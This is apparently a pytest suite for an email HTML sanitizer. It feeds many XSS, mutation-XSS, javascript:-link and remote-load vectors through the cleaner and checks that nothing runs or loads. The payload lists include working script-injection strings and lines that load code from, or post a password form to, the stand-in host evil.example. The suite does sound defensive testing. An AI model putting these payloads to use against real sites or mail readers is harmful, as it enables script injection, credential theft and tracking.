"""A stranger's HTML made harmless: what is left is read again by another parser, and nothing there runs or loads."""

from __future__ import annotations

import base64
import html.parser
import re
from typing import Any

import pytest

from gateway.mail import sanitize

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
PNG_URL = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

RUNS = [  # scripts, handlers, and elements that bring their own documents
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\t\n>",
    "<script>/*<img src=x onerror=alert(1)>*/</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" oNeRrOr="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img src='x' title='>' onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<div onpointerrawupdate=alert(1) onanimationstart=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<table background=javascript:alert(1)><tr><td background='//evil.example/a.png'>x</table>",
    "<input onfocus=alert(1) autofocus><button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example/><input name=password><input type=submit></form>",
    "<form id=f></form><button form=f formaction=//evil.example>x</button>",
    "<select><option onclick=alert(1)>x</select><keygen autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<isindex type=image src=//evil.example onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><blink onclick=alert(1)>x</blink>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=Evil codebase=//evil.example></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64," + SVG + "#x'/></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/a.png /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<x-custom onclick=alert(1) is=x>x</x-custom>",
    "<p id=location name=document><a id=body href=cid:x>x</a></p>",
    "<p contenteditable onbeforeinput=alert(1)>x</p>",
    "<video onerror=alert(1)><source src=x></video>",
]
LINKS = [  # where a click must not lead
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml;base64," + SVG + "'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:picture'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/admin'>x</a>",
    "<a href='?delete=all'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='view-source:https://evil.example'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='https:\\\\evil.example\" onclick=alert(1) x=\"'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href=https://ok.example ping=//evil.example>x</a>",
    "<a href=https://ok.example target=_self rel=opener download>x</a>",
    "<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m>",
]
LOADS = [  # what would tell somebody that the mail was read
    "<img src=//evil.example/a.gif>",
    "<img src=https://evil.example/a.gif width=1 height=1>",
    "<img src=' https://evil.example/a.gif'>",
    "<img srcset='https://evil.example/a.png 2x' src=cid:picture>",
    "<img lowsrc=//evil.example/a.png dynsrc=//evil.example/a.avi longdesc=//evil.example>",
    "<img src='cid:nobody'>",
    "<img src='cid:picture https://evil.example'>",
    "<img src='data:image/svg+xml;base64," + SVG + "'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/png;base64," + SVG + "'>",
    "<img src='data:image/png,%89PNG'>",
    "<img src='blob:x'><img src='mailto:x@y.example'>",
    "<picture><source srcset=//evil.example/a.webp><img src=//evil.example/a.png></picture>",
    "<image src=//evil.example/a.png>",
    "<video src=//evil.example/a.mp4 poster=//evil.example/a.png autoplay></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<track src=//evil.example/a.vtt><bgsound src=//evil.example/a.wav>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>p{background:url(//evil.example/a.png)}</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
    "<p style='background:url(//evil.example/a.png)'>x</p>",
    "<p style='background-image:url(\"https://evil.example/a.png\")'>x</p>",
    "<p style='background:u\\72l(//evil.example/a.png)'>x</p>",
    "<p style='background:u/**/rl(//evil.example/a.png)'>x</p>",
    "<p style='background:URL(//evil.example/a.png)'>x</p>",
    "<p style='background:image-set(\"//evil.example/a.png\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(\"a.png\" 1x)'>x</p>",
    "<p style='list-style:url(//evil.example/a.png)'>x</p>",
    "<p style='list-style-image:url(//evil.example/a.png);content:url(//evil.example)'>x</p>",
    "<p style='cursor:url(//evil.example/a.cur),auto;border-image:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style='width:\uff45\uff58pression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2);-moz-binding:url(//evil.example#x)'>x</p>",
    "<p style='@import url(//evil.example)'>x</p>",
    "<p style='color:red;--x:url(//evil.example);background:var(--x)'>x</p>",
    "<p style='filter:url(//evil.example#x);mask:url(//evil.example);clip-path:url(//evil.example)'>x</p>",
    "<p style='font-family:\"a;background:url(//evil.example)\"'>x</p>",
    "<p style='color:red}</style><img src=//evil.example onerror=alert(1)>'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9;width:100%;height:100%'>x</p>",
    "<p style='color:attr(x);animation:a 1s;transition:all 1s'>x</p>",
    "<td background=//evil.example/a.png>x",
    "<body background=//evil.example/a.png>x</body>",
    "<html manifest=//evil.example/m><p>x",
    "<blockquote cite=//evil.example>x</blockquote><q cite=//evil.example>x</q><del cite=//evil.example>x</del>",
]
ALL = RUNS + LINKS + LOADS

ELEMENT_NAMES = (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup data dd "
    "del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li "
    "main mark nav ol p pre q rp rt rtc ruby s samp section small span strike strong sub summary sup table tbody td "
    "tfoot th thead time tr tt u ul var wbr"
)
ATTRIBUTE_NAMES = (
    "href target rel src alt style align valign bgcolor color dir lang title width height border hspace vspace face "
    "size start type cellpadding cellspacing summary colspan rowspan nowrap scope span datetime open"
)
ELEMENTS, ATTRIBUTES = set(ELEMENT_NAMES.split()), set(ATTRIBUTE_NAMES.split())
HARMLESS_SOURCE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
HARMLESS_LINK = re.compile(r"(https?://|mailto:)[^\s\\\"'<>]+", re.IGNORECASE)


class Reader(html.parser.HTMLParser):
    """Notes what a browser could do."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[Any] = []
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in ELEMENTS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES or not self.is_harmless(tag, name, value or ""):
                self.wrong.append((tag, name, value))
        if tag == "a" and (dict(attrs).get("target"), dict(attrs).get("rel")) != (
            "_blank",
            "noopener noreferrer nofollow",
        ):
            self.wrong.append(("a", attrs))

    def is_harmless(self, tag: str, name: str, value: str) -> bool:
        if name == "src":
            return tag == "img" and HARMLESS_SOURCE.fullmatch(value) is not None
        if name == "href":
            return tag == "a" and HARMLESS_LINK.fullmatch(value) is not None
        if name == "style":
            functions = set(re.findall(r"([\w-]*)\(", value))
            odd = re.search(r"[\\/@<>{}]|position|behavior|binding|animation|--|[^\x00-\x7f]", value)
            return functions <= {"rgb", "rgba", "hsl", "hsla"} and odd is None
        return True

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(data)


def read(cleaned: str) -> Reader:
    reader = Reader()
    reader.feed(cleaned)
    reader.close()
    return reader


def pictures(content_id: str) -> str | None:
    return PNG_URL if content_id == "picture" else None


@pytest.mark.parametrize("vector", ALL)
def test_nothing_runs_and_nothing_is_loaded(vector: str) -> None:
    """Negative control: with the values of `style` let through unread 21 of these failed, of `href` 10, of `src` 24."""
    cleaned = sanitize.clean(f"<p>before</p>{vector}<p>after</p>", pictures)
    assert read(cleaned).wrong == [], cleaned
    assert "before" in cleaned


def test_there_are_many_vectors_and_no_two_the_same() -> None:
    assert len(set(ALL)) == len(ALL) >= 80


def test_what_was_cleaned_is_clean() -> None:
    """And so no second parse makes something else of it, which mutation XSS lives by."""
    for vector in ALL:
        once = sanitize.clean(vector, pictures)
        again = sanitize.clean(once, pictures)
        assert read(again).found == read(once).found, vector
    whole = sanitize.clean("".join(ALL), pictures)
    assert read(whole).wrong == []


def test_nesting_one_vector_in_another_changes_nothing() -> None:
    for outer in ("<table>", "<svg>", "<math>", "<select>", "<title>", "<style>", "<noscript>", "<!--", "<p title='"):
        for vector in ALL[::3]:
            cleaned = sanitize.clean(outer + vector + "'>--></style></noscript></title></svg>" + vector, pictures)
            assert read(cleaned).wrong == [], (outer, vector, cleaned)


# What stays


def test_what_makes_a_mail_readable_stays() -> None:
    given = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" colspan="2" '
        "style=\"padding: 10px 0; COLOR: rgb(1, 2, 3); font-family: 'Segoe UI', Arial, sans-serif\">"
        '<font face="Arial" size="2">Hi &amp; <b>bye</b></font></td></tr></table>'
    )
    cleaned = sanitize.clean(given)
    assert 'width="600"' in cleaned
    assert "padding:10px 0;color:rgb(1, 2, 3);font-family:'Segoe UI', Arial, sans-serif" in cleaned
    assert "Hi &amp; <b>bye</b>" in cleaned


@pytest.mark.parametrize("url", ["https://shop.example/verify?t=1&u=2#x", "HTTP://shop.example", "mailto:a@b.example"])
def test_links_lead_out_and_tell_nothing(url: str) -> None:
    [(tag, attributes)] = read(sanitize.clean(f'<a href="{url}">x</a>')).found
    assert (tag, attributes) == ("a", {"href": url, "target": "_blank", "rel": "noopener noreferrer nofollow"})


def test_a_link_is_what_a_browser_makes_of_it() -> None:
    assert sanitize.link(" https://a.example/\tb c\n") == "https://a.example/b%20c"
    assert sanitize.link("ht\ntps://a.example") == "https://a.example"
    assert sanitize.link("java\tscript:alert(1)") is None


def test_a_picture_that_stands_in_the_mail_stays_if_it_is_one() -> None:
    [(_, attributes)] = read(sanitize.clean(f'<img src="{PNG_URL}" alt="logo">')).found
    assert attributes == {"src": PNG_URL, "alt": "logo"}
    lie = base64.b64encode(b"GIF89a").decode()
    [(_, attributes)] = read(sanitize.clean(f'<img src="data:image/png;base64,{lie}">')).found
    assert attributes == {"src": f"data:image/gif;base64,{lie}"}  # its own type, whatever was claimed


def test_pictures_are_known_by_how_they_begin() -> None:
    known = {
        PNG: "image/png",
        b"\xff\xd8\xff\xe0": "image/jpeg",
        b"GIF87a": "image/gif",
        b"RIFF\0\0\0\0WEBPVP8 ": "image/webp",
        b"<svg": None,
        b"%PDF": None,
        b"": None,
        b"RIFF\0\0\0\0WAVE": None,
        b"<html>\x89PNG\r\n\x1a\n": None,
    }
    assert {content: sanitize.picture_type(content) for content in known} == known


# Whole messages


def message(body: str, *pictures: tuple[str, bytes]) -> bytes:
    files = "".join(
        f"--M\r\nContent-Type: image/png\r\nContent-ID: <{name}>\r\nContent-Disposition: inline\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(content).decode()}\r\n"
        for name, content in pictures
    )
    return (
        "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=M\r\n\r\n"
        f"--M\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{body}\r\n{files}--M--\r\n"
    ).encode()


def sources(asked: bytes) -> list[str | None]:
    return [attributes.get("src") for _, attributes in read(sanitize.serve(asked)).found]


def test_pictures_that_came_along_are_shown() -> None:
    body = '<img src="cid:one%40b.example"><img src="CID:one@b.example"><img src="cid:other">'
    raw = message(body, ("one@b.example", PNG))
    assert sources(sanitize.request(raw, "shown")) == [PNG_URL, PNG_URL, None]
    assert sources(sanitize.request(raw, "none")) == [None, None, None]
    cleaned = sanitize.serve(sanitize.request(raw, "named"))
    assert cleaned.count('src="cid:one@b.example"') == 2
    assert "other" not in cleaned


def test_a_picture_that_is_none_is_not_shown() -> None:
    raw = message('<img src="cid:x">', ("x", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
    assert sources(sanitize.request(raw, "shown")) == [None]


def test_pictures_are_shown_as_long_as_there_is_room() -> None:
    """However often the same one is asked for: 5 MB of them, and no more."""
    big = PNG + b"\0" * 2_000_000
    raw = message('<img src="cid:x">' * 50, ("x", big))
    shown = [source for source in sources(sanitize.request(raw, "shown")) if source]
    assert len(shown) == 2
    assert len(sanitize.serve(sanitize.request(raw, "shown"))) < 7_500_000


def test_too_much_html_is_not_cleaned_at_all() -> None:
    assert sanitize.serve(sanitize.request(message("x" * (sanitize.MAX_HTML + 1)), "shown")) == ""


def test_a_message_without_html_gives_none() -> None:
    assert sanitize.serve(sanitize.request(b"From: a@b.example\r\n\r\nHi\r\n", "shown")) == ""


def test_text_stands_in_html_as_it_is() -> None:
    shown = sanitize.text_as_html("<script>alert(1)</script> & \"x\" 'y'")
    reader = read(shown)
    assert [tag for tag, _ in reader.found] == ["pre"]
    assert "&lt;script&gt;" in shown
